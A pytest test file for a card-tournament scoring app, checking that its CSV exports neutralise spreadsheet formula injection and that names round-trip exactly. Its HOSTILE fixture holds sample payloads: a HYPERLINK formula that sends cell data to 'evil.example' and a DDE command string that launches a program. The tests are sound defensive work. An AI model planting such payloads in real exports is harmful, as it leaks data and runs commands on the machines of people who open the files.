"""Every CSV the app writes: no text cell reaches a spreadsheet as a live formula (OWASP CSV
injection), numbers stay numbers, files open in Excel as UTF-8 (BOM, CRLF), and entrants
exported then imported come back exactly as the director typed them."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from gin_scorer.cli import main
from gin_scorer.services.support.dto import EntrantSpec
from gin_scorer.services.support.entrant_rows import parse_entrants_csv, read_entrants_file
from gin_scorer.services.support.spreadsheet_csv import (
    FORMULA_STARTS,
    csv_text,
    neutralise,
    restore_text,
    write_csv_file,
)
from gin_scorer.services.writes import entrants, events, exchange, hands, matches
from gin_scorer.store.database import Database, open_database

from .helpers import hand

KNOCK_A_SCORES_8 = '{"knock": "A", "deadwood": {"A": 7, "B": 15}}'
GIN_A_SCORES_75 = '{"gin": "A", "deadwood": {"B": 50}}'

# What a player might enter as a name to take over the director's spreadsheet.
HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"Ann")',
    "club": "+44 Club",
    "partner": "-2+3",
    "other": "@SUM(1+1)*cmd|' /C calc'!A0",
    "quoted": "'=already quoted",
}
_NUMBER = re.compile(r"-?\d+(\.\d+)?")


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _assert_no_live_formula(text: str) -> int:
    """Every cell starting like a formula is a genuine number; returns how many numbers."""
    numbers = 0
    for row in _cells(text)[1:]:
        for cell in row:
            if cell.startswith(FORMULA_STARTS):
                assert _NUMBER.fullmatch(cell), f"live formula in the export: {cell!r}"
                numbers += 1
    return numbers


def _hostile_event(db: Database) -> int:
    event = events.create_event(db, name="=Open", venue="@Hall")
    a = entrants.add_entrant(
        db, event.id, HOSTILE["name"], club=HOSTILE["club"], member_number="-7", seed=1
    )
    b = entrants.add_entrant(db, event.id, HOSTILE["other"], partner=HOSTILE["partner"])
    c = entrants.add_entrant(db, event.id, HOSTILE["quoted"], club="-North")
    match = matches.create_match(db, event.id, a.id, b.id, table_number=1)
    matches.create_match(db, event.id, c.id, None, table_number=2)
    sheet = hands.record_hand(
        db, match.id, hand(KNOCK_A_SCORES_8), match.version, entered_by="=Tom"
    )
    hands.record_hand(
        db,
        match.id,
        hand({"knock": "B", "deadwood": {"A": 30, "B": 11}}),
        sheet.version,
        entered_by="+Tom",
        override_reason="-limit 11 agreed",
    )
    return event.id


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_each_formula_start_is_neutralised_and_restored(start: str) -> None:
    text = f"{start}1+1"
    assert neutralise(text) == f"'{text}"
    assert restore_text(neutralise(text)) == text
    assert neutralise("Ann") == "Ann" and neutralise("'Tex' Lee") == "'Tex' Lee"


def test_numbers_stay_numbers_and_only_text_is_neutralised() -> None:
    text = csv_text(["score", "label", "ratio", "flag"], [[-25, "-25", -0.5, True]])
    assert text == "score,label,ratio,flag\r\n-25,'-25,-0.5,yes\r\n"


def test_every_export_has_no_live_formula(tmp_path: Path) -> None:
    db = open_database(tmp_path / "evil.sqlite", station="@desk")
    try:
        event_id = _hostile_event(db)
        exports = {
            "entrants": exchange.export_entrants(db, event_id),
            "results": exchange.export_results(db, event_id),
            "hands": exchange.export_hands(db, event_id, "csv"),
        }
    finally:
        db.close()
    for text in exports.values():
        _assert_no_live_formula(text)
        assert "\r\n" in text and "\n" not in text.replace("\r\n", "")
    results = {row[0]: row for row in _cells(exports["results"])[1:]}
    first = next(iter(results.values()))
    assert first[4] == neutralise(HOSTILE["name"])
    assert first[5] == neutralise(f"{HOSTILE['other']} & {HOSTILE['partner']}")
    hand_rows = list(csv.DictReader(io.StringIO(exports["hands"], newline="")))
    assert [r["entered_by"] for r in hand_rows] == ["'=Tom", "'+Tom"]
    assert hand_rows[1]["override_reason"] == "'-limit 11 agreed"
    assert {r["station"] for r in hand_rows} == {"'@desk"}
    assert [r["points"] for r in hand_rows] == ["8", "19"]  # numbers as numbers
    rows = list(csv.DictReader(io.StringIO(exports["entrants"], newline="")))
    assert [(r["name"], r["club"], r["member_number"], r["seed"], r["partner"]) for r in rows] == [
        (neutralise(HOSTILE["name"]), "'+44 Club", "'-7", "1", ""),
        (neutralise(HOSTILE["other"]), "", "", "", neutralise(HOSTILE["partner"])),
        ("''=already quoted", "'-North", "", "", ""),
    ]


def test_export_files_open_in_excel_as_utf8_and_re_import(tmp_path: Path) -> None:
    db_path = str(tmp_path / "evil.sqlite")
    db = open_database(db_path, station="desk-1")
    try:
        event_id = _hostile_event(db)
        entrants.add_entrant(db, event_id, "Zoë ♠ Ruiz")
    finally:
        db.close()
    out = tmp_path / "entrants.csv"
    assert (
        main(["--db", db_path, "export", "entrants", "--event", str(event_id), "--out", str(out)])
        == 0
    )
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfname,club,member_number,seed,partner\r\n")
    assert b"\r\r\n" not in data and data.count(b"\n") == data.count(b"\r\n") == 5
    assert "Zoë ♠ Ruiz".encode() in data
    parsed = parse_entrants_csv(read_entrants_file(out))
    assert parsed.problems == ()
    assert [(s.name, s.club, s.member_number, s.partner) for s in parsed.specs] == [
        (HOSTILE["name"], HOSTILE["club"], "-7", ""),
        (HOSTILE["other"], "", "", HOSTILE["partner"]),
        (HOSTILE["quoted"], "-North", "", ""),
        ("Zoë ♠ Ruiz", "", "", ""),
    ]
    for what in ("results", "hands"):
        path = tmp_path / f"{what}.csv"
        args = ["--db", db_path, "export", what, "--event", str(event_id), "--out", str(path)]
        assert main(args) == 0
        assert path.read_bytes().startswith(b"\xef\xbb\xbfmatch,round,table,")
        _assert_no_live_formula(path.read_text(encoding="utf-8-sig"))


def test_a_failed_write_leaves_no_half_file(tmp_path: Path) -> None:
    with pytest.raises(OSError):
        write_csv_file(tmp_path / "missing-folder" / "out.csv", "a\r\n")
    target = tmp_path / "out.csv"
    assert write_csv_file(target, "a,b\r\n1,2\r\n") == target
    assert target.read_bytes() == b"\xef\xbb\xbfa,b\r\n1,2\r\n"
    assert [p.name for p in tmp_path.iterdir()] == ["out.csv"]


# Names as directors type them, with everything a CSV must carry: quotes, the separators,
# formula starts, a leading quote, accents and suits. Whitespace runs are one space, as the
# services keep names (the letters, marks, numbers, punctuation, symbols and spaces).
_CHARACTERS = st.characters(
    categories=("L", "M", "N", "P", "S", "Zs"), include_characters="\"',;=+-@\t"
)
_TEXT = st.text(_CHARACTERS, min_size=1, max_size=40).map(lambda t: " ".join(t.split()))
_NAME = _TEXT.filter(bool)


@settings(
    max_examples=60,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(
    st.lists(
        st.tuples(_NAME, _TEXT, st.booleans()),
        min_size=1,
        max_size=8,
        unique_by=lambda t: t[0].casefold(),
    )
)
def test_entrants_round_trip_through_a_csv_file_exactly(
    sqlite_db: Database, tmp_path: Path, people: list[tuple[str, str, bool]]
) -> None:
    specs = [
        EntrantSpec(name=name, club=club, seed=i if seeded else None)
        for i, (name, club, seeded) in enumerate(people, 1)
    ]
    source = events.create_event(sqlite_db, name="Source", entrants=specs)
    path = write_csv_file(tmp_path / "entrants.csv", exchange.export_entrants(sqlite_db, source.id))
    target = events.create_event(sqlite_db, name="Target")
    exchange.import_entrants_csv(sqlite_db, target.id, read_entrants_file(path))

    def seen(event_id: int) -> list[tuple[str, str, int | None]]:
        return sorted((e.name, e.club, e.seed) for e in entrants.list_entrants(sqlite_db, event_id))

    assert seen(target.id) == seen(source.id) == sorted((s.name, s.club, s.seed) for s in specs)


def test_results_csv_names_come_back_exactly(sqlite_db: Database) -> None:
    event = events.create_event(sqlite_db, name="Open")
    names = [HOSTILE["name"], 'Ann "Ace" Lee, Jr.; III', HOSTILE["quoted"]]
    made = [entrants.add_entrant(sqlite_db, event.id, n) for n in names]
    match = matches.create_match(sqlite_db, event.id, made[0].id, made[1].id)
    hands.record_hand(sqlite_db, match.id, hand(GIN_A_SCORES_75), match.version, entered_by="T")
    matches.create_match(sqlite_db, event.id, made[2].id, None)
    rows = list(csv.DictReader(io.StringIO(exchange.export_results(sqlite_db, event.id))))
    assert [restore_text(r["a"]) for r in rows] == [names[0], names[2]]
    assert restore_text(rows[0]["b"]) == names[1]
    assert [r["points_a"] for r in rows][:1] == ["75"]


def test_csv_to_the_terminal_has_its_line_ends_and_no_bom(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    db_path = str(tmp_path / "evil.sqlite")
    db = open_database(db_path, station="desk-1")
    try:
        event_id = _hostile_event(db)
    finally:
        db.close()
    capsys.readouterr()
    assert (
        main(["--db", db_path, "export", "entrants", "--event", str(event_id), "--format", "csv"])
        == 0
    )
    out = capsys.readouterr().out
    assert out.startswith("name,club,member_number,seed,partner\n") and "\r" not in out
    assert "'+44 Club" in out  # neutralised on the terminal too


@pytest.mark.parametrize("columns", [exchange.RESULT_COLUMNS, exchange.HAND_COLUMNS])
@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_text_column_of_every_export_is_neutralised(
    columns: tuple[str, ...], start: str
) -> None:
    # Whatever a column holds today, a text value in it starting like a formula goes out
    # quoted, and an int in it (a score of -25) goes out as the number.
    texts = {name: f"{start}{name}" for name in columns}
    numbers = {name: -25 for name in columns}
    rows = _cells(exchange.to_csv([texts, numbers], columns))
    assert rows[0] == list(columns)
    assert rows[1] == [f"'{start}{name}" for name in columns]
    assert rows[2] == ["-25"] * len(columns)


@settings(max_examples=300, deadline=None, derandomize=True)
@given(
    st.lists(
        st.lists(st.one_of(st.text(max_size=30), st.integers()), min_size=1, max_size=5),
        min_size=1,
        max_size=5,
    )
)
def test_any_cells_come_back_from_the_writer_exactly(rows: list[list[str | int]]) -> None:
    width = max(len(row) for row in rows)
    rows = [row + [""] * (width - len(row)) for row in rows]
    read = _cells(csv_text([f"c{i}" for i in range(width)], rows))[1:]
    for written, back in zip(rows, read, strict=True):
        for value, cell in zip(written, back, strict=True):
            assert not cell.startswith(FORMULA_STARTS) or _NUMBER.fullmatch(cell)
            assert restore_text(cell) == str(value)
